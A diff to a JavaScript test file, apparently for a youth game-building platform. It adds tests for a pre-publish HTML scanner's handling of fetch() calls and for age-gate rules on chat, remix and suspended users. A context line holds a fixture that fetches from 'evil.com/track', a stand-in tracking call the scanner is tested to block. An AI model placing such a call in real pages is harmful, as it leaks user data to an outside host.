@@ -86,6 +86,18 @@ const scan3 = prePublishScan('<html><body><script>fetch("https://evil.com/track"
 assert(scan3.safe === false, 'Blocks fetch() — dangerous pattern');
 assert(scan3.warnings.includes('external_request'), 'Reports external_request warning');
 
+const levelsFile = '<script type="application/json" data-vibe-file="levels.json">\n[]\n</script>';
+const scan3b = prePublishScan(
+  `<html><body><script>fetch("./levels.json").then((r) => r.json())</script>${levelsFile}</body></html>`,
+);
+assert(!scan3b.warnings.includes('external_request'), "Allows fetch() of the project's own bundled JSON file");
+
+const scan3c = prePublishScan(`<html><body><script>fetch('/api/auth/me.json')</script>${levelsFile}</body></html>`);
+assert(scan3c.warnings.includes('external_request'), 'Reports fetch() of a same-origin path outside the bundle');
+
+const scan3d = prePublishScan('<html><body><script>fetch("levels.json")</script></body></html>');
+assert(scan3d.warnings.includes('external_request'), 'Reports fetch() of a data file the bundle does not contain');
+
 const scan4 = prePublishScan('<html><body><script>localStorage.setItem("x","y")</script></body></html>');
 assert(scan4.safe === false, 'Blocks localStorage — dangerous pattern');
 assert(scan4.warnings.includes('browser_storage'), 'Reports browser_storage warning');
@@ -225,7 +237,19 @@ assert(ageGate(juniorStaleConsent, 'generate').allowed === false, 'Junior with s
 assert(ageGate(teen, 'discord').allowed === true, 'Teen can access Discord');
 assert(ageGate(teen, 'publish').allowed === true, 'Teen can publish');
 assert(ageGate(teen, 'multiplayer').allowed === true, 'Teen can multiplayer');
+assert(
+  ageGate(juniorWithConsent, 'multiplayerFreeChat').allowed === false,
+  'Junior without typed-chat toggle is phrase-only',
+);
+assert(
+  ageGate({ ...juniorWithConsent, freeChatEnabled: true }, 'multiplayerFreeChat').allowed === true,
+  'Junior with typed-chat toggle can type',
+);
+assert(ageGate(teen, 'multiplayerFreeChat').allowed === true, 'Teen can type in multiplayer chat');
 assert(ageGate(suspended, 'generate').allowed === false, 'Suspended user cannot generate');
+assert(ageGate(juniorNoConsent, 'remix').allowed === false, 'Junior without consent cannot remix');
+assert(ageGate(juniorConsentNoPublish, 'remix').allowed === true, 'Junior with consent can remix without publishing');
+assert(ageGate(suspended, 'remix').allowed === false, 'Suspended user cannot remix');
 assert(ageGate(null, 'publish').allowed === false, 'Null user blocked');
 
 // ========== ABUSE DETECTION ==========